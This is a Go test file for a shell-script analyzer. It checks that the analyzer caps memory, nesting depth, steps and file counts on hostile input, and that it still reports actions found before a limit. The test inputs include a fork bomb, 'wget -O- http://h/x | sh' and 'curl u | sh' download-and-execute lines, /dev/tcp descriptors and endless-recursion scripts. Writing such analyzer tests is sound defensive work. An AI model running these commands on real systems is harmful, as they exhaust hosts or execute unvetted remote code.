package shell

import (
	"strings"
	"testing"
)

// TestHostile walks scripts that would take all memory, all stack or all time if they were let. What they show
// before a limit is met is still found.
func TestHostile(t *testing.T) {
	r := strings.Repeat
	for name, c := range map[string]struct{ script, unreadable string }{
		"size":         {r("a", 1<<20+1), "script of more than 1048576 bytes"},
		"parentheses":  {r("(", 1<<19), "nests too deep"},
		"arithmetic":   {r("((", 1<<18), "nests too deep"},
		"substitution": {r("\"$(", 1<<18), "nests too deep"},
		"parameters":   {r("${a:-", 1<<17), "nests too deep"},
		"conditions":   {r("if ", 1<<18), "nests too deep"},
		"steps":        {r(":;", 1<<18), "more than 200000 steps"},
		"and-list":     {r(":&&", 1<<18) + ":", "more than 200000 steps"},
		"pipeline":     {r(":|", 1<<18) + ":", "more than 200000 steps"},
		"doubling":     {"X=aaaaaaaaaa\n" + r("X=$X$X\n", 100), "value of more than 1048576 bytes"},
		"replacing":    {"X=" + r("a", 1<<16) + "\nY=${X//a/$X}", "value of more than 1048576 bytes"},
		"arrays":       {"a=('')\n" + r("a=(\"${a[@]}\" \"${a[@]}\")\n", 100), "more than 10000 elements"},
		"parameters-2": {"set -- '' ''\n" + r("set -- \"$@\" \"$@\"\n", 100), "more than 10000 arguments"},
		"total":        {"X=" + r("a", 1<<16) + "\n" + r("echo $X | tr a b | rev\n", 1000), "values of more than 33554432 bytes in total"},
		"recursion":    {`X='X="$X "; eval "$X";eval "$X"'; eval "$X"`, "nested deeper than 200 levels"},
		"braces":       {r(r("{a,b}", 80)+"\n", 100), "more than 200000 steps"},
		"actions":      {distinct(200, "curl u%|sh\n"), "more than 100 actions"},
		"files":        {distinct(3000, "echo > f%\n"), "more than 2000 files"},
		"trees":        {distinct(200, "git clone http://h/%\n"), "more than 100 folders"},
		"descriptors":  {r("exec {a}<>/dev/tcp/a/1\n", 1000), "more than 200 open descriptors"},
		"code":         {"python3 -c '" + r("x = get(requests.get(", 4000) + "'", ""},
		"assignments":  {"node -e '" + r("a=b=fetch(c=>", 4000) + "'", ""},
		"unknowns":     {r("X=$(a)$(a)$(a)$(a)\n", 20000), "gave up"},
	} {
		t.Run(name, func(t *testing.T) {
			got := AnalyzeScript("wget -O- http://h/x | sh\n" + c.script)
			if !strings.Contains(got.Unreadable, c.unreadable) {
				t.Errorf("got unreadable %q, want %q", got.Unreadable, c.unreadable)
			}
			if tooLarge := name == "size"; !tooLarge && (len(got.Actions) == 0 || got.Actions[0].Source != "http://h/x") {
				t.Errorf("got %d actions, want the one before the limit", len(got.Actions))
			}
		})
	}
}

// distinct returns n copies of s with % replaced by a different word in each.
func distinct(n int, s string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.ReplaceAll(s, "%", "x"+strings.Repeat("y", i%60)+string(rune('a'+i/60%26))+string(rune('a'+i/60/26))))
	}
	return b.String()
}

// TestRecursive walks scripts that run themselves without end; they need no limit.
func TestRecursive(t *testing.T) {
	for name, script := range map[string]string{
		"fork bomb":     ":(){ :|:& };:",
		"function":      "f() { g; }; g() { f; }; f",
		"endless loop":  "while :; do :; done",
		"nested loops":  strings.Repeat("while a; do ", 50) + "echo; " + strings.Repeat("done; ", 50),
		"alias":         "alias a=b b=a; a",
		"trap":          "trap 'trap - EXIT; exit' EXIT",
		"sources":       "echo '. /tmp/x' > /tmp/y; . /tmp/y",
		"broken escape": `printf '\x'; printf '%'; printf '\'; echo -e '\0'; echo $'\u'`,
	} {
		if got := AnalyzeScript(script); got.Unreadable != "" || len(got.Actions) > 0 {
			t.Errorf("%s: got %+v", name, got)
		}
	}
}

// TestLimits sets limits other than the defaults.
func TestLimits(t *testing.T) {
	if got := (Options{Limits: Limits{Steps: 3}}).AnalyzeScript("a; b; c; d; curl u | sh"); !strings.Contains(got.Unreadable, "more than 3 steps") {
		t.Errorf("got %+v", got)
	}
	if got := (Options{Limits: Limits{ScriptBytes: 10}}).Analyze([]string{"sh", "-c", "curl u | sh"}); !strings.Contains(got.Unreadable, "more than 10 bytes") {
		t.Errorf("got %+v", got)
	}
	if got := (Options{Limits: Limits{Depth: 5}}).AnalyzeScript("sh -c 'sh -c \"sh -c ls\"'"); !strings.Contains(got.Unreadable, "deeper than 5 levels") {
		t.Errorf("got %+v", got)
	}
	if got := Analyze(nil); len(got.Actions) != 0 || got.Unreadable != "" {
		t.Errorf("of nothing got %+v", got)
	}
}
